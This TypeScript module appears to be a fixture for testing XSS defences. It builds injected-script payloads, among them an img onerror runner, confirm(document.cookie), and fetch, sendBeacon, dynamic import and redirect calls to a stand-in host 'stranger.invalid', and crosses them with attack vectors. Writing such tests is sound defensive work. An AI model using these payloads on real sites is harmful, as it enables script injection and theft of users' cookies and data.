/** What a payload would do if it ran, and where it would go; every vector is filled with these. */
import { PWNED } from "../watch.ts";

/** A server that nobody may be led to. */
export const STRANGER = "http://stranger.invalid";

/** Script that leaves a mark, opens a dialog or asks the stranger. No quotation mark `"`, so that it fits into attributes. */
export const DEEDS: readonly string[] = [
  `window.${PWNED}=1`,
  "alert('attune')",
  `fetch('${STRANGER}/deed')`,
  `top.${PWNED}=parent.${PWNED}=1`,
  `new Image().src='${STRANGER}/pixel'`,
  `import('${STRANGER}/module.js')`,
  `[].at.constructor('${PWNED}=1')()`,
  "confirm(document.cookie)",
  `navigator.sendBeacon('${STRANGER}/beacon')`,
  `location='${STRANGER}/moved'`,
];

/** The deed of a vector: they take turns, so that every kind of vector comes with every kind of deed. */
export function deedOf(turn: number): string {
  return DEEDS[turn % DEEDS.length] as string;
}

/** A picture that would run; what is put into whatever holds markup. */
export function runner(turn: number): string {
  return `<img src=x onerror="${deedOf(turn)}">`;
}

/** Fills each shape, in which `%` stands for a deed, with the deed whose turn it is. */
export function filled(shapes: readonly string[], from = 0): string[] {
  return shapes.map((shape, index) => shape.replaceAll("%", () => deedOf(from + index)));
}

/** Joins every left part with every right part. */
export function crossed<A, B, C>(left: readonly A[], right: readonly B[], join: (a: A, b: B, turn: number) => C): C[] {
  return left.flatMap((a, row) => right.map((b, column) => join(a, b, row * right.length + column)));
}
